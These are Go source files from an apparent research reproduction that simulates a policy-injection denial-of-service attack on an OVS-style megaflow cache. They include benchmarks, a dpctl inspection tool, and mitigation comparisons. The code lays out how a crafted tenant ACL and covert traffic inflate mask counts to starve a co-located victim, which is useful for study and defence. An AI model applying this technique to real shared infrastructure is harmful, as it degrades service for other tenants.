	return nil
}

// figFlowLimit plots the revalidator's flow-limit-vs-time curve under the
// 8192-mask attack, adaptive heuristic against the fixed-limit control:
// the limit collapses from the 200k ceiling to the 2k floor within a few
// dump rounds of the covert stream landing, while the control holds flat
// (and keeps every attacker flow resident).
func figFlowLimit(csv bool, quick bool) error {
	file := "flowlimit.yaml"
	masks := 8192
	if quick {
		// The quick pack runs the smaller attack against a harder-overrunning
		// dump, with a floor below the 512-flow residency, so the collapse
		// reaches the floor and the staleness trim engages within the short
		// timeline.
		file, masks = "flowlimit-quick.yaml", 512
	}
	header(fmt.Sprintf("Flow-limit collapse — revalidator backoff under the %d-mask attack", masks))
	pack, err := loadPack(file)
	if err != nil {
		return err
	}
	res, err := scenario.Run(pack, scenario.RunOptions{})
	if err != nil {
		return err
	}
	adaptive, err := runByName(res, "adaptive")
	if err != nil {
		return err
	}
	fixed, err := runByName(res, "fixed")
	if err != nil {
		return err
	}
	sum := func(r *scenario.VariantRun) string {
		s := r.Summary
		return fmt.Sprintf("flow limit %d -> %d (%d overrun dumps, %d flows trimmed by limit cuts)",
			int(s["flow_limit_initial"]), int(s["flow_limit_final"]), int(s["overruns"]), int(s["limit_evicted"]))
	}
	fmt.Printf("adaptive: %s\n", sum(adaptive))
	fmt.Printf("fixed:    %s\n", sum(fixed))
	limA, limF := adaptive.Timeline.Series("flow_limit"), fixed.Timeline.Series("flow_limit")
	out := &metrics.Table{Header: []string{
		"t", "flow_limit", "flow_limit(fixed)", "flows", "dump_units", "trimmed", "masks", "victim_gbps"}}
	for i := 0; i < limA.Len(); i += 5 {
		out.AddRow(limA.T[i], limA.V[i], limF.V[i],
			adaptive.Timeline.Series("flows_dumped").V[i],
			adaptive.Timeline.Series("dump_units").V[i],
			adaptive.Timeline.Series("evicted_limit").V[i],
			adaptive.Timeline.Series("mf_masks").V[i],
			adaptive.Timeline.Series("victim_gbps").V[i])
	}
	fmt.Print(out.String())
	fmt.Println("OVS heuristic: dump overruns 2x its interval -> limit cut by the overrun factor; healthy dumps regrow by 1000")
	if csv {
		fmt.Println(adaptive.Timeline.CSV())
		fmt.Println(metrics.CSV(renamed(fixed, "flow_limit", "_fixed")))
	}
	return nil
}

// figGuard runs the guard-killswitch pack: each overload guard alone
// against the 8192-mask attack, with the attack window closing at tick
// 80 so every variant also shows its recovery story. The table tracks
// the mask count per variant plus the kill-switch engagement gauge.
func figGuard(csv bool) error {
	header("Overload guards — kill-switch, admission breaker, mask quota vs the 8192-mask attack")
	pack, err := loadPack("guard-killswitch.yaml")
	if err != nil {
		return err
	}
	res, err := scenario.Run(pack, scenario.RunOptions{})
	if err != nil {
		return err
	}
	unguarded, err := runByName(res, "unguarded")
	if err != nil {
		return err
	}
	kill, err := runByName(res, "killswitch")
	if err != nil {
		return err
	}
	breaker, err := runByName(res, "breaker")
	if err != nil {
		return err
	}
	quota, err := runByName(res, "quota")
	if err != nil {
		return err
	}
	fmt.Printf("unguarded:  peak %d masks, flow limit ground to %d\n",
		int(unguarded.Summary["peak_masks"]), int(unguarded.Summary["flow_limit_final"]))
	fmt.Printf("killswitch: %d trip(s), recovered in %d revalidator ticks, %d entries resident at end\n",
		int(kill.Summary["killswitch_trips"]), int(kill.Summary["killswitch_recovery_ticks"]),
		int(kill.Summary["final_entries"]))
	fmt.Printf("breaker:    %d trip(s), %d upcalls shed, peak %d masks, flow limit held at %d\n",
		int(breaker.Summary["breaker_trips"]), int(breaker.Summary["upcalls_dropped"]),
		int(breaker.Summary["peak_masks"]), int(breaker.Summary["flow_limit_final"]))
	fmt.Printf("quota:      %d mask mints rejected, attacker capped at peak %d masks\n",
		int(quota.Summary["quota_rejects"]), int(quota.Summary["peak_masks"]))
	base := unguarded.Timeline.Series("mf_masks")
	out := &metrics.Table{Header: []string{
		"t", "masks", "masks(kill)", "engaged", "masks(breaker)", "masks(quota)"}}
	for i := 0; i < base.Len(); i += 5 {
		out.AddRow(base.T[i], base.V[i],
			kill.Timeline.Series("mf_masks").V[i],
			kill.Timeline.Series("killswitch_engaged").V[i],
			breaker.Timeline.Series("mf_masks").V[i],
			quota.Timeline.Series("mf_masks").V[i])
	}
	fmt.Print(out.String())
	fmt.Println("attack window closes at t=80; the kill-switch variant's mass-expiry and regrow is the recovery metric")
	if csv {
		fmt.Println(metrics.CSV(base, renamed(kill, "mf_masks", "_kill"),
			renamed(kill, "killswitch_engaged", "_kill"),
			renamed(breaker, "mf_masks", "_breaker"), renamed(quota, "mf_masks", "_quota")))
	}
	return nil
}

func figMitigation(bool) error {
	header("Mitigation comparison under the 512-mask attack (demo discussion)")
	pack, err := loadPack("mitigation-matrix.yaml")
	if err != nil {
		return err
	}
	res, err := scenario.Run(pack, scenario.RunOptions{})
	if err != nil {
		return err
	}
	fmt.Print(mitigation.Table(res.Runs[0].Outcomes).String())
	return nil
}
