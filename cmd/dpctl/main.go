// Command dpctl inspects the model dataplane the way ovs-dpctl and
// ovs-appctl inspect OVS. It builds the paper's two-tenant demo scenario,
// optionally executes the attack, and dumps the requested view:
//
//	dpctl show                      switch and cache summary
//	dpctl dump-rules                slow-path rules (ovs-ofctl style)
//	dpctl dump-flows [-n 20]        megaflow cache entries (with flow ages)
//	dpctl dump-masks [-n 20]        mask population with entry counts
//	dpctl revalidator [-rounds 12]  run dump rounds, print stats + flow limit
//	dpctl replay -pcap file.pcap    feed a capture through the scenario switch
//	dpctl metrics [-format prom]    drive traffic, dump the telemetry registry
//	dpctl trace [spec]              walk one frame through the cache hierarchy
//	dpctl self-check                validate table invariants
//
// Add -attack to run the covert stream before dumping (default on for
// dump-flows/dump-masks; -attack=false for the healthy view). The
// revalidator subcommand drives the covert stream itself, one cycle per
// dump round, and prints the adaptive flow limit collapsing (-fixed to
// pin it, -dump-rate to set the logical dump speed).
//
// The trace subcommand is the model's ofproto/trace: it takes a frame
// spec ("ip_src=10.0.0.1,ip_dst=10.0.0.9,proto=tcp,tp_dst=5201"),
// builds the wire frame, and prints every tier decision on the way to
// the verdict — EMC/SMC probes, subtable scans and stage-hash bails,
// the upcall admission verdict, the matched rule and the minted
// megaflow. -warm N first processes the frame N times (to see cache
// promotion); -emc restores the exact-match cache the demo scenario
// disables.
package main

import (
	"flag"
	"fmt"
	"net/netip"
	"os"
	"sort"
	"strconv"
	"strings"

	"policyinject/internal/attack"
	"policyinject/internal/cache"
	"policyinject/internal/cms"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
	"policyinject/internal/revalidator"
	"policyinject/internal/telemetry"
	"policyinject/internal/traffic"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]
	fs := flag.NewFlagSet(cmd, flag.ExitOnError)
	doAttack := fs.Bool("attack", cmd == "dump-flows" || cmd == "dump-masks", "run the covert stream first")
	smc := fs.Bool("smc", false, "enable the OVS 2.10 signature-match cache tier")
	// The revalidator demo defaults to the full three-field attack: its
	// 8192 flows are what make the default-rate dump overrun and the flow
	// limit visibly collapse.
	defaultFields := "ip_src,tp_dst"
	if cmd == "revalidator" {
		defaultFields = "ip_src,tp_dst,tp_src"
	}
	fields := fs.String("fields", defaultFields, "attack fields")
	n := fs.Int("n", 20, "entries to display")
	pcapPath := fs.String("pcap", "", "replay: capture file to feed")
	rounds := fs.Int("rounds", 12, "revalidator: dump rounds to run")
	interval := fs.Uint64("interval", 5, "revalidator: dump interval in logical units")
	dumpRate := fs.Float64("dump-rate", 64, "revalidator: flows dumped per worker per unit")
	fixed := fs.Bool("fixed", false, "revalidator: disable the adaptive flow-limit heuristic")
	format := fs.String("format", "prom", "metrics: output format, prom or json")
	emc := fs.Bool("emc", false, "trace: restore the exact-match cache tier")
	warm := fs.Int("warm", 0, "trace: process the frame this many times before tracing")
	fs.Parse(args)

	// Extra datapath options some subcommands inject at build time: the
	// EMC tier for trace, the live-instrument registry for metrics.
	var extra []dataplane.Option
	if *emc {
		extra = append(extra, dataplane.WithEMC(cache.EMCConfig{}))
	}
	var reg *telemetry.Registry
	if cmd == "metrics" {
		reg = telemetry.NewRegistry()
		extra = append(extra, dataplane.WithTelemetry(reg))
	}

	sc, err := buildScenario(*fields, *doAttack, *smc, extra...)
	if err != nil {
		fatal(err)
	}
	sw := sc.sw

	switch cmd {
	case "show":
		fmt.Print(sw.String())
	case "dump-rules":
		for _, r := range sw.Rules() {
			fmt.Printf("%s  # %s\n", r, r.Comment)
		}
	case "dump-flows":
		dumpFlows(sw, *n, scenarioNow)
	case "dump-masks":
		dumpMasks(sw, *n)
	case "revalidator":
		runRevalidator(sc, *rounds, *interval, *dumpRate, *fixed)
	case "replay":
		if err := replay(sw, *pcapPath); err != nil {
			fatal(err)
		}
	case "metrics":
		if err := runMetrics(sc, reg, *format, *rounds, *interval); err != nil {
			fatal(err)
		}
	case "trace":
		if err := runTrace(sc, fs.Args(), *warm); err != nil {
			fatal(err)
		}
	case "self-check":
		selfCheck(sw)
	default:
		usage()
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, "usage: dpctl {show|dump-rules|dump-flows|dump-masks|revalidator|replay|metrics|trace|self-check} [-attack] [-fields ...] [-n N]")
}

func fatal(err error) {
	fmt.Fprintln(os.Stderr, "dpctl:", err)
	os.Exit(1)
}

// scenario is the assembled demo cluster plus the handles the subcommands
// drive traffic with.
type scenario struct {
	sw           *dataplane.Switch
	atk          *attack.Attack
	victimIP     netip.Addr
	victimPort   uint32
	attackerPort uint32
}

// scenarioNow is the logical time after buildScenario's traffic (attack at
// t=1, victim warmup at t=2) — the clock dump-flows ages against.
const scenarioNow = 3

// buildScenario assembles the paper's demo cluster: victim and attacker
// pods sharing a hypervisor, victim policy installed, attacker policy
// injected, and (optionally) the covert stream plus victim warm traffic.
// extra options append after the defaults, so they win conflicts (the
// trace subcommand's -emc undoes the stock WithoutEMC this way).
func buildScenario(fields string, execute, smc bool, extra ...dataplane.Option) (*scenario, error) {
	cluster := cms.NewCluster()
	cluster.SwitchOpts = []dataplane.Option{dataplane.WithoutEMC()}
	if smc {
		cluster.SwitchOpts = append(cluster.SwitchOpts, dataplane.WithSMC(cache.SMCConfig{}))
	}
	cluster.SwitchOpts = append(cluster.SwitchOpts, extra...)
	if _, err := cluster.AddNode("server-1"); err != nil {
		return nil, err
	}
	victimPod, err := cluster.DeployPod("victim-corp", "backend", "server-1")
	if err != nil {
		return nil, err
	}
	attackerPod, err := cluster.DeployPod("mallory", "probe", "server-1")
	if err != nil {
		return nil, err
	}

	atk := &attack.Attack{DstIP: attackerPod.IP}
	var err2 error
	atk.Fields, err2 = parseFields(fields)
	if err2 != nil {
		return nil, err2
	}
	theACL, err := atk.BuildACL()
	if err != nil {
		return nil, err
	}
	if err := cluster.ApplyPolicy("mallory", "probe", &cms.Policy{
		Name:                "innocuous-whitelist",
		Ingress:             theACL.Entries,
		AllowSrcPortFilters: true,
	}); err != nil {
		return nil, err
	}

	sw := victimPod.Node.Switch
	if execute {
		keys, err := atk.Keys()
		if err != nil {
			return nil, err
		}
		for i := range keys {
			keys[i].Set(flow.FieldInPort, uint64(attackerPod.Port))
		}
		out := sw.ProcessBatch(1, keys, nil)
		// A little victim traffic so its megaflow shows in the dumps.
		victim := traffic.NewVictim(traffic.VictimConfig{
			Src: victimPod.IP, Dst: victimPod.IP, InPort: victimPod.Port,
		})
		vkeys := make([]flow.Key, 64)
		for i := range vkeys {
			vkeys[i] = victim.Next()
		}
		sw.ProcessBatch(2, vkeys, out)
	}
	return &scenario{
		sw:           sw,
		atk:          atk,
		victimIP:     victimPod.IP,
		victimPort:   victimPod.Port,
		attackerPort: attackerPod.Port,
	}, nil
}

// runRevalidator puts the scenario switch under a revalidator and drives
// dump rounds with the covert stream cycling once per round (plus a victim
// trickle), printing each round's dump stats and the flow limit's path —
// the collapse, the staleness trims, and the per-worker shares.
func runRevalidator(sc *scenario, rounds int, interval uint64, dumpRate float64, fixed bool) {
	keys, err := sc.atk.Keys()
	if err != nil {
		fatal(err)
	}
	for i := range keys {
		keys[i].Set(flow.FieldInPort, uint64(sc.attackerPort))
	}
	victim := traffic.NewVictim(traffic.VictimConfig{
		Src: sc.victimIP, Dst: sc.victimIP, InPort: sc.victimPort,
	})
	rev := revalidator.New(revalidator.Config{
		Interval:   interval,
		DumpRate:   dumpRate,
		FixedLimit: fixed,
	})
	rev.Attach(sc.sw)
	fmt.Printf("# %d rounds, interval %d, dump rate %g flows/unit/worker, covert stream %d keys/round\n",
		rounds, interval, dumpRate, len(keys))
	now := uint64(1)
	vkeys := make([]flow.Key, 64)
	var out []dataplane.Decision
	for r := 0; r < rounds; r++ {
		for i := range vkeys {
			vkeys[i] = victim.Next()
		}
		out = sc.sw.ProcessBatch(now, vkeys, out)
		out = sc.sw.ProcessBatch(now, keys, out)
		rev.Tick(now)
		st := rev.Stats()
		over := ""
		if st.Last.Overrun {
			over = " OVERRUN"
		}
		fmt.Printf("round %2d t=%-4d flows=%-6d dump=%6.2f/%d units%s  flow-limit=%-7d evicted idle=%d limit=%d\n",
			r+1, now, st.Last.Flows, st.Last.Duration, interval, over,
			st.FlowLimit, st.Last.IdleEvicted, st.Last.LimitEvicted)
		now += interval
	}
	st := rev.Stats()
	fmt.Println(st.String())
	for wi, w := range st.PerWorker {
		fmt.Printf("  worker %d: %d targets, %d flows, evicted idle=%d limit=%d policy=%d\n",
			wi, w.Targets, w.Flows, w.IdleEvicted, w.LimitEvicted, w.PolicyFlushed)
	}
	fmt.Printf("megaflow cache now: %d entries, %d masks (flow limit %d)\n",
		sc.sw.Megaflow().Len(), sc.sw.Megaflow().NumMasks(), sc.sw.Megaflow().FlowLimit())
}

func parseFields(csv string) ([]attack.TargetField, error) {
	var out []attack.TargetField
	for _, name := range splitComma(csv) {
		switch name {
		case "ip_src":
			out = append(out, attack.TargetField{Field: flow.FieldIPSrc, Allow: 0x0a000001})
		case "ip_dst":
			out = append(out, attack.TargetField{Field: flow.FieldIPDst, Allow: 0x0a000002})
		case "tp_dst":
			out = append(out, attack.TargetField{Field: flow.FieldTPDst, Allow: 80})
		case "tp_src":
			out = append(out, attack.TargetField{Field: flow.FieldTPSrc, Allow: 5201})
		default:
			return nil, fmt.Errorf("unknown field %q", name)
		}
	}
	return out, nil
}

func splitComma(s string) []string {
	var out []string
	cur := ""
	for _, r := range s {
		if r == ',' {
			if cur != "" {
				out = append(out, cur)
			}
			cur = ""
			continue
		}
		if r != ' ' {
			cur += string(r)
		}
	}
	if cur != "" {
		out = append(out, cur)
	}
	return out
}

func dumpFlows(sw *dataplane.Switch, n int, now uint64) {
	entries := sw.Megaflow().Entries()
	fmt.Printf("# %d megaflow entries, %d masks (showing %d)\n",
		len(entries), sw.Megaflow().NumMasks(), min(n, len(entries)))
	for i, e := range entries {
		if i >= n {
			break
		}
		// age: units since install; used: units since the last hit — the
		// staleness the revalidator's idle sweep and limit trim key on.
		fmt.Printf("%s, actions:%s, hits:%d, age:%d, used:%d\n",
			e.Match, e.Verdict, e.Hits, now-e.Added, now-e.LastHit)
	}
}

func dumpMasks(sw *dataplane.Switch, n int) {
	entries := sw.Megaflow().Entries()
	counts := map[flow.Mask]int{}
	for _, e := range entries {
		counts[e.Match.Mask]++
	}
	type row struct {
		mask  flow.Mask
		count int
	}
	rows := make([]row, 0, len(counts))
	for m, c := range counts {
		rows = append(rows, row{m, c})
	}
	sort.Slice(rows, func(i, j int) bool { return rows[i].count > rows[j].count })
	fmt.Printf("# %d distinct masks (showing %d)\n", len(rows), min(n, len(rows)))
	for i, r := range rows {
		if i >= n {
			break
		}
		fmt.Printf("%4d entries  mask %s\n", r.count,
			flow.Match{Mask: r.mask}.String())
	}
}

// replay feeds a pcap capture through the scenario switch at port 1 and
// reports the verdict mix and the cache impact.
func replay(sw *dataplane.Switch, path string) error {
	if path == "" {
		return fmt.Errorf("replay needs -pcap <file>")
	}
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	frames, err := pkt.ReadPcap(f)
	if err != nil {
		return err
	}
	masksBefore := sw.Megaflow().NumMasks()
	allowed, denied, errs := 0, 0, 0
	// Feed the capture as NIC-sized wire bursts through the frame-first
	// ingress: malformed records get per-frame error slots instead of
	// aborting the burst.
	const burstLen = 32
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	for start := 0; start < len(frames); start += burstLen {
		fb.Reset()
		for _, fr := range frames[start:min(start+burstLen, len(frames))] {
			fb.Append(fr, 1)
		}
		out = sw.ProcessFrames(uint64(start/burstLen), &fb, out)
		for i, d := range out[:fb.Len()] {
			switch {
			case fb.Err(i) != nil:
				errs++
			case d.Verdict.Verdict == flowtable.Allow:
				allowed++
			default:
				denied++
			}
		}
	}
	fmt.Printf("replayed %d frames: %d allowed, %d denied, %d parse errors\n",
		len(frames), allowed, denied, errs)
	fmt.Printf("megaflow masks: %d -> %d\n", masksBefore, sw.Megaflow().NumMasks())
	return nil
}

// runMetrics exercises the instrumented demo switch — victim bursts plus
// the covert stream as wire frames, one revalidator round per cycle —
// then dumps the telemetry registry in Prometheus text or JSON form.
func runMetrics(sc *scenario, reg *telemetry.Registry, format string, rounds int, interval uint64) error {
	if format != "prom" && format != "json" {
		return fmt.Errorf("metrics: unknown -format %q (want prom or json)", format)
	}
	frames, err := sc.atk.Frames()
	if err != nil {
		return err
	}
	victim := traffic.NewVictim(traffic.VictimConfig{
		Src: sc.victimIP, Dst: sc.victimIP, InPort: sc.victimPort,
	})
	rev := revalidator.New(revalidator.Config{})
	rev.SetTelemetry(reg)
	rev.Attach(sc.sw)

	const burstLen = 32
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	now := uint64(1)
	for r := 0; r < rounds; r++ {
		fb.Reset()
		for i := 0; i < 64; i++ {
			fb.Append(victim.NextFrame())
		}
		out = sc.sw.ProcessFrames(now, &fb, out)
		for start := 0; start < len(frames); start += burstLen {
			fb.Reset()
			for _, fr := range frames[start:min(start+burstLen, len(frames))] {
				fb.Append(fr, sc.attackerPort)
			}
			out = sc.sw.ProcessFrames(now, &fb, out)
		}
		rev.Tick(now)
		now += interval
	}
	sc.sw.PublishTelemetry()
	snap := reg.Snapshot()
	if format == "json" {
		return snap.WriteJSON(os.Stdout)
	}
	return snap.WriteProm(os.Stdout)
}

// runTrace parses the frame spec, optionally warms the caches with it,
// and prints the explained walk through the tier hierarchy.
func runTrace(sc *scenario, args []string, warm int) error {
	if len(args) != 1 {
		return fmt.Errorf(`trace wants one frame spec, e.g. "ip_src=10.0.0.1,ip_dst=%s,proto=tcp,tp_src=40000,tp_dst=5201"`, sc.victimIP)
	}
	frame, inPort, err := parseFrameSpec(args[0], sc)
	if err != nil {
		return err
	}
	var fb dataplane.FrameBatch
	var out []dataplane.Decision
	for i := 0; i < warm; i++ {
		// One-frame bursts, so each pass sees the previous one's cache
		// promotions and the warmed state matches a real packet trickle.
		fb.Reset()
		fb.Append(frame, inPort)
		out = sc.sw.ProcessFrames(scenarioNow-1, &fb, out)
		if err := fb.Err(0); err != nil {
			return fmt.Errorf("warming: %w", err)
		}
	}
	fmt.Print(sc.sw.TraceFrame(scenarioNow, frame, inPort).String())
	return nil
}

// parseFrameSpec lowers "k=v,k=v" onto a built wire frame. Unset
// addresses default to the demo victim flow (client /24 -> victim pod),
// the input port to the victim's, the protocol to TCP.
func parseFrameSpec(spec string, sc *scenario) ([]byte, uint32, error) {
	ps := pkt.Spec{Proto: pkt.ProtoTCP, Dst: sc.victimIP}
	inPort := sc.victimPort
	for _, kv := range splitComma(spec) {
		k, v, ok := strings.Cut(kv, "=")
		if !ok {
			return nil, 0, fmt.Errorf("frame spec: %q is not key=value", kv)
		}
		var err error
		switch k {
		case "ip_src":
			ps.Src, err = netip.ParseAddr(v)
		case "ip_dst":
			ps.Dst, err = netip.ParseAddr(v)
		case "proto":
			switch v {
			case "tcp":
				ps.Proto = pkt.ProtoTCP
			case "udp":
				ps.Proto = pkt.ProtoUDP
			case "icmp":
				ps.Proto = pkt.ProtoICMP
			default:
				var n uint64
				n, err = strconv.ParseUint(v, 10, 8)
				ps.Proto = uint8(n)
			}
		case "tp_src":
			var n uint64
			n, err = strconv.ParseUint(v, 10, 16)
			ps.SrcPort = uint16(n)
		case "tp_dst":
			var n uint64
			n, err = strconv.ParseUint(v, 10, 16)
			ps.DstPort = uint16(n)
		case "in_port":
			var n uint64
			n, err = strconv.ParseUint(v, 10, 32)
			inPort = uint32(n)
		case "frame_len":
			var n uint64
			n, err = strconv.ParseUint(v, 10, 16)
			ps.FrameLen = int(n)
		default:
			return nil, 0, fmt.Errorf("frame spec: unknown key %q", k)
		}
		if err != nil {
			return nil, 0, fmt.Errorf("frame spec: %s=%s: %w", k, v, err)
		}
	}
	if !ps.Src.IsValid() {
		ps.Src = netip.AddrFrom4([4]byte{10, 0, 0, 1})
	}
	frame, err := pkt.Build(ps)
	if err != nil {
		return nil, 0, fmt.Errorf("frame spec: %w", err)
	}
	return frame, inPort, nil
}

func selfCheck(sw *dataplane.Switch) {
	ok := true
	// Rule table invariants.
	rules := sw.Rules()
	for i := 1; i < len(rules); i++ {
		if rules[i].Priority > rules[i-1].Priority {
			fmt.Printf("FAIL: rule order violated at %d\n", i)
			ok = false
		}
	}
	// Megaflow non-overlap within the cache (pairwise on a sample).
	entries := sw.Megaflow().Entries()
	limit := min(len(entries), 200)
	for i := 0; i < limit; i++ {
		for j := i + 1; j < limit; j++ {
			if entries[i].Match.Overlaps(entries[j].Match) &&
				entries[i].Verdict != entries[j].Verdict {
				fmt.Printf("FAIL: conflicting overlapping megaflows %v / %v\n",
					entries[i].Match, entries[j].Match)
				ok = false
			}
		}
	}
	if ok {
		fmt.Println("ok: rule order and megaflow consistency hold")
	} else {
		os.Exit(1)
	}
}
