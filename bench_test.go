// Package policyinject_test is the benchmark harness: one benchmark per
// paper table/figure plus the ablations called out in DESIGN.md §6. Run
//
//	go test -bench=. -benchmem
//
// and compare against EXPERIMENTS.md. Where a benchmark corresponds to a
// paper artefact, the mapping is noted in its comment.
package policyinject_test

import (
	"fmt"
	"net/netip"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"

	"policyinject/internal/acl"
	"policyinject/internal/attack"
	"policyinject/internal/baseline"
	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/guard"
	"policyinject/internal/pkt"
	"policyinject/internal/revalidator"
	"policyinject/internal/telemetry"
	"policyinject/internal/traffic"
)

// attackSwitch builds a switch carrying the attack's compiled ACL (scoped
// to the attacker port) plus a victim whitelist, optionally pre-loaded
// with the covert stream.
func attackSwitch(b testing.TB, atk *attack.Attack, executed bool, opts ...dataplane.Option) *dataplane.Switch {
	b.Helper()
	sw := dataplane.New("bench", opts...)
	installAttackPolicy(b, atk, func(r flowtable.Rule) { sw.InstallRule(r) })
	if executed {
		for _, k := range covertKeys(b, atk) {
			sw.ProcessKey(1, k)
		}
	}
	return sw
}

// installAttackPolicy installs the shared benchmark rule set — victim
// whitelist, default deny, attacker ACL — through any installer (a bare
// switch or a PMD pool primary).
func installAttackPolicy(b testing.TB, atk *attack.Attack, install func(flowtable.Rule)) {
	b.Helper()
	// Victim whitelist on port 1. eth_type is pinned exactly as the CMS
	// compiler does; it keeps the victim's megaflow mask distinct from
	// every covert mask, so the victim entry sits at the end of the scan
	// order — the paper's post-flush position.
	var vm flow.Match
	vm.Key.Set(flow.FieldInPort, 1)
	vm.Mask.SetExact(flow.FieldInPort)
	vm.Key.Set(flow.FieldEthType, flow.EthTypeIPv4)
	vm.Mask.SetExact(flow.FieldEthType)
	vm.Key.Set(flow.FieldIPSrc, 0x0a0a0000)
	vm.Mask.SetPrefix(flow.FieldIPSrc, 24)
	install(flowtable.Rule{Match: vm, Priority: 100, Action: flowtable.Action{Verdict: flowtable.Allow}})
	var dm flow.Match
	dm.Key.Set(flow.FieldInPort, 1)
	dm.Mask.SetExact(flow.FieldInPort)
	install(flowtable.Rule{Match: dm, Priority: 0})
	// Attack ACL on port 66.
	theACL, err := atk.BuildACL()
	if err != nil {
		b.Fatal(err)
	}
	rules, err := theACL.Compile()
	if err != nil {
		b.Fatal(err)
	}
	for _, r := range rules {
		r.Match.Key.Set(flow.FieldInPort, 66)
		r.Match.Mask.SetExact(flow.FieldInPort)
		install(r)
	}
}

// covertKeys is the attacker's covert stream, scoped to port 66.
func covertKeys(b testing.TB, atk *attack.Attack) []flow.Key {
	b.Helper()
	keys, err := atk.Keys()
	if err != nil {
		b.Fatal(err)
	}
	for i := range keys {
		keys[i].Set(flow.FieldInPort, 66)
	}
	return keys
}

func victimGen() *traffic.Victim {
	return traffic.NewVictim(traffic.VictimConfig{
		Src:    netip.MustParseAddr("10.10.0.5"),
		Dst:    netip.MustParseAddr("172.16.0.2"),
		InPort: 1,
	})
}

var noEMC = dataplane.WithoutEMC()

// BenchmarkFig2bSlowPath — E1 (paper Fig. 2b): slow-path classification +
// megaflow synthesis for the single-field ACL, one probe per divergence
// depth.
func BenchmarkFig2bSlowPath(b *testing.B) {
	var tbl flowtable.Table
	cls := classifier.New(classifier.Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000000)
	m.Mask.SetPrefix(flow.FieldIPSrc, 8)
	for _, r := range []flowtable.Rule{
		{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}},
		{Priority: 0},
	} {
		cls.Insert(tbl.Insert(r))
	}
	probes := make([]flow.Key, 9)
	for i, p := range []uint64{0x0a, 0x80, 0x40, 0x20, 0x10, 0x00, 0x0c, 0x08, 0x0b} {
		probes[i].Set(flow.FieldIPSrc, p<<24)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		cls.Lookup(probes[i%len(probes)])
	}
}

// BenchmarkMaskInjection — §2 mask-count table: full covert-stream
// execution (upcalls + installs) for each attack configuration. The
// "masks" metric must read 8 / 512 / 8192.
func BenchmarkMaskInjection(b *testing.B) {
	for _, c := range []struct {
		name string
		atk  func() *attack.Attack
	}{
		{"single8", attack.SingleField},
		{"two512", attack.TwoField},
		{"three8192", attack.ThreeField},
	} {
		b.Run(c.name, func(b *testing.B) {
			atk := c.atk()
			sw := attackSwitch(b, atk, false, noEMC)
			keys, _ := atk.Keys()
			for j := range keys {
				keys[j].Set(flow.FieldInPort, 66)
			}
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(1, keys[i%len(keys)])
			}
			b.ReportMetric(float64(sw.Megaflow().NumMasks()), "masks")
		})
	}
}

// BenchmarkTSSLookupMasks — E3/E5 (the "10% of peak" and DoS claims):
// victim megaflow-hit cost as a function of resident mask count. The
// paper's degradation curve is ns/op growing linearly in masks.
func BenchmarkTSSLookupMasks(b *testing.B) {
	atk := attack.ThreeField()
	keys, err := atk.Keys()
	if err != nil {
		b.Fatal(err)
	}
	for _, masks := range []int{1, 8, 64, 512, 2048, 8192} {
		b.Run(fmt.Sprintf("masks=%d", masks), func(b *testing.B) {
			sw := attackSwitch(b, atk, false, noEMC)
			for i := 0; i < masks-1 && i < len(keys); i++ {
				k := keys[i]
				k.Set(flow.FieldInPort, 66)
				sw.ProcessKey(1, k)
			}
			gen := victimGen()
			sw.ProcessKey(1, gen.Next()) // victim megaflow installs last
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(2, gen.Next())
			}
			b.ReportMetric(float64(sw.Megaflow().NumMasks()), "masks")
		})
	}
}

// BenchmarkFig3VictimPath — Fig. 3's two operating points: the victim's
// per-packet cost before the attack and with the 8192-mask attack
// resident (kernel-datapath model). The ratio is the figure's collapse.
func BenchmarkFig3VictimPath(b *testing.B) {
	for _, attacked := range []bool{false, true} {
		name := "before"
		if attacked {
			name = "under-attack"
		}
		b.Run(name, func(b *testing.B) {
			sw := attackSwitch(b, attack.ThreeField(), attacked, noEMC)
			gen := victimGen()
			sw.ProcessKey(1, gen.Next())
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(2, gen.Next())
			}
		})
	}
}

// BenchmarkBaselineUnderAttack — E6: the cache-less ESWITCH-style switch
// under the same covert stream; ns/op must not depend on the attack.
func BenchmarkBaselineUnderAttack(b *testing.B) {
	for _, attacked := range []bool{false, true} {
		name := "before"
		if attacked {
			name = "under-attack"
		}
		b.Run(name, func(b *testing.B) {
			atk := attack.TwoField()
			sw := baseline.New(baseline.Config{})
			theACL, _ := atk.BuildACL()
			rules, _ := theACL.Compile()
			for _, r := range rules {
				sw.InstallRule(r)
			}
			if attacked {
				keys, _ := atk.Keys()
				for _, k := range keys {
					sw.ProcessKey(1, k)
				}
			}
			gen := victimGen()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				sw.ProcessKey(2, gen.Next())
			}
		})
	}
}

// BenchmarkEMCEffect — ablation: the exact-match cache's contribution on
// friendly traffic (userspace vs kernel datapath), before and under
// attack. The EMC hides established flows even under attack; the kernel
// model does not — exactly why the paper's Kubernetes demo collapses.
func BenchmarkEMCEffect(b *testing.B) {
	configs := []struct {
		name string
		opts []dataplane.Option
	}{
		{"emc", nil},
		{"no-emc", []dataplane.Option{noEMC}},
	}
	for _, c := range configs {
		for _, attacked := range []bool{false, true} {
			name := c.name + "/before"
			if attacked {
				name = c.name + "/under-attack"
			}
			b.Run(name, func(b *testing.B) {
				sw := attackSwitch(b, attack.TwoField(), attacked, c.opts...)
				gen := victimGen()
				sw.ProcessKey(1, gen.Next())
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					sw.ProcessKey(2, gen.Next())
				}
			})
		}
	}
}

